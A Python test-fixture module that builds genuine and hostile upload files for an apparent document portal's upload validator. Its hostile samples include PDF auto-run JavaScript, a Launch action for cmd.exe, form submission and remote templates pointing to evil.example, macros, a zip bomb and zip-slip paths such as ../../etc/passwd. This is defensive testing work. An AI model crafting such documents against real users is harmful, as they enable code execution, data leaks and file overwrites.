"""Genuine and hostile files, made in code: nothing harmful lies in the repository (security S29, S30)."""

import io
import zipfile

import docx
import openpyxl
import pikepdf
from pikepdf import Array, Dictionary, Name, String

from collab_portal.documents.pdf import html_to_pdf
from tests.factories.documents import small_pdf

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PPTX_TYPE = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"


def tagged_pdf() -> bytes:
    return html_to_pdf('<html lang="en-GB"><head><title>Paper</title></head><body><h1>Paper</h1></body></html>')


def word() -> bytes:
    document, out = docx.Document(), io.BytesIO()
    document.add_heading("Paper", 1)
    document.save(out)
    return out.getvalue()


def excel() -> bytes:
    book, out = openpyxl.Workbook(), io.BytesIO()
    book.active.append(["Cost", 3])
    book.save(out)
    return out.getvalue()


def slides() -> bytes:
    return package(
        {
            "[Content_Types].xml": f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Override PartName="/ppt/presentation.xml" ContentType="{PPTX_TYPE}"/></Types>',
            "_rels/.rels": relationships("officeDocument", "ppt/presentation.xml"),
            "ppt/presentation.xml": "<presentation/>",
        }
    )


def relationships(kind: str, target: str, mode: str = "Internal") -> str:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    )


def package(parts: dict) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in parts.items():
            target.writestr(name, content)
    return out.getvalue()


def word_with(parts: dict, types: str = "") -> bytes:
    """A genuine Word file with parts added, and content types spliced in."""
    with zipfile.ZipFile(io.BytesIO(word())) as source:
        held = {name: source.read(name) for name in source.namelist()}
    kinds = held["[Content_Types].xml"].decode()
    held["[Content_Types].xml"] = kinds.replace("</Types>", f"{types}</Types>")
    return package({**held, **parts})


def word_that_points(kind: str, target: str) -> bytes:
    """A genuine Word file that fetches something from elsewhere."""
    return word_with({"word/_rels/settings.xml.rels": relationships(kind, target, "External")})


def word_with_renamed_macro() -> bytes:
    kind = '<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    return word_with({"word/x.bin": b"x"}, kind)


def pdf_with(change) -> bytes:
    """A genuine PDF, changed by a function that gets it open."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(small_pdf())) as pdf:
        change(pdf)
        pdf.save(out)
    return out.getvalue()


def script(pdf):
    action = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    pdf.Root.OpenAction = pdf.make_indirect(action)


def script_deep_and_direct(pdf):
    action = Dictionary(AA=Dictionary(E=Dictionary(Next=Array([Dictionary(S=Name.JavaScript, JS=String("x"))]))))
    pdf.pages[0].obj.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 1, 1], **action)])


def script_in_rendition(pdf):
    pdf.Root.OpenAction = Dictionary(S=Name.Rendition, JS=String("x"))


def launch(pdf):
    pdf.Root.OpenAction = Dictionary(S=Name.Launch, F=String("cmd.exe"))


def sends_form(pdf):
    pdf.Root.OpenAction = Dictionary(S=Name.SubmitForm, F=String("https://evil.example/"))


def embedded_file(pdf):
    pdf.attachments["evil.exe"] = b"MZ"


def embedded_by_annotation(pdf):
    pdf.pages[0].obj.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 1, 1])])


def xfa(pdf):
    pdf.Root.AcroForm = Dictionary(XFA=pdf.make_stream(b"<xdp/>"), Fields=Array())


def encrypted(password: str) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(small_pdf())) as pdf:
        pdf.save(out, encryption=pikepdf.Encryption(owner="owner", user=password))
    return out.getvalue()


def encrypted_zip() -> bytes:
    data = bytearray(word())
    at = data.index(b"PK\x01\x02")
    data[at + 8] |= 1  # the flag in the first entry of the list of contents
    return bytes(data)


DTD = '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'
GENUINE = {
    "tagged.pdf": tagged_pdf,
    "small.PDF": small_pdf,
    "paper.docx": word,
    "costs.xlsx": excel,
    "slides.pptx": slides,
    "linked.docx": lambda: word_with({"word/_rels/x.rels": relationships("hyperlink", "https://nhs.uk/", "External")}),
}
HOSTILE = {
    "an empty file": ("a.pdf", lambda: b"", "empty"),
    "a web page called PDF": ("a.pdf", lambda: b"<html><script>1</script>", "not a PDF"),
    "a program called Word": ("a.docx", lambda: b"MZ\x90" + b"\0" * 99, "not one"),
    "a picture with script": ("a.svg", lambda: b"<svg/>", "Only PDF"),
    "two extensions": ("a.pdf.exe", small_pdf, "Only PDF"),
    "an old Word file": ("a.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "Save it as .docx"),
    "a password on Word": ("a.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "password"),
    "an encrypted part": ("a.docx", encrypted_zip, "password"),
    "PDF: script": ("a.pdf", lambda: pdf_with(script), "script"),
    "PDF: script, direct and deep": ("a.pdf", lambda: pdf_with(script_deep_and_direct), "script"),
    "PDF: script in a rendition": ("a.pdf", lambda: pdf_with(script_in_rendition), "script"),
    "PDF: launch": ("a.pdf", lambda: pdf_with(launch), "start a program"),
    "PDF: sends a form": ("a.pdf", lambda: pdf_with(sends_form), "start a program"),
    "PDF: embedded file": ("a.pdf", lambda: pdf_with(embedded_file), "another file"),
    "PDF: embedded by annotation": ("a.pdf", lambda: pdf_with(embedded_by_annotation), "another file"),
    "PDF: form of XML": ("a.pdf", lambda: pdf_with(xfa), "script"),
    "PDF: encrypted": ("a.pdf", lambda: encrypted("secret"), "encrypted"),
    "PDF: restricted, opens without password": ("a.pdf", lambda: encrypted(""), "encrypted"),
    "PDF: cut short": ("a.pdf", lambda: tagged_pdf()[:-800], "broken"),
    "PDF: a zip behind it": ("a.pdf", lambda: small_pdf() + package({"a": "b"}), "another file"),
    "macro": ("a.docx", lambda: word_with({"word/vbaProject.bin": b"x"}), "macro"),
    "macro by another name": ("a.docx", word_with_renamed_macro, "macro"),
    "ActiveX": ("a.docx", lambda: word_with({"word/activeX/activeX1.bin": b"x"}), "macro"),
    "embedded object": ("a.docx", lambda: word_with({"word/embeddings/oleObject1.bin": b"x"}), "another file"),
    "external template": ("a.docx", lambda: word_that_points("attachedTemplate", "https://evil.example/"), "fetches"),
    "external picture": ("a.docx", lambda: word_that_points("image", "https://evil.example/"), "fetches"),
    "DTD": ("a.docx", lambda: word_with({"customXml/item1.xml": DTD}), "document type"),
    "DTD in UTF-16": ("a.docx", lambda: word_with({"customXml/item1.xml": DTD.encode("utf-16")}), "document type"),
    "DTD without the name of XML": ("a.docx", lambda: word_with({"media/a.dat": DTD}), "document type"),
    "bomb": ("a.docx", lambda: word_with({"word/media/a.bin": b"\0" * 3_000_000}), "unpacks"),
    "too many parts": ("a.docx", lambda: word_with({f"a/{n}": b"" for n in range(2_001)}), "too many"),
    "zip slip": ("a.docx", lambda: word_with({"../../etc/passwd": b"x"}), "unsafe names"),
    "zip slip by backslash": ("a.docx", lambda: word_with({"word\\..\\..\\x": b"x"}), "unsafe names"),
    "the same part twice": ("a.docx", lambda: word_with({"WORD/document.xml": b"<x/>"}), "unsafe names"),
    "Excel called Word": ("a.docx", excel, "something else"),
    "any zip called Word": ("a.docx", lambda: package({"a": "b"}), "broken"),
    "Word cut short": ("a.docx", lambda: word()[:-400], "broken"),
}  # fmt: skip
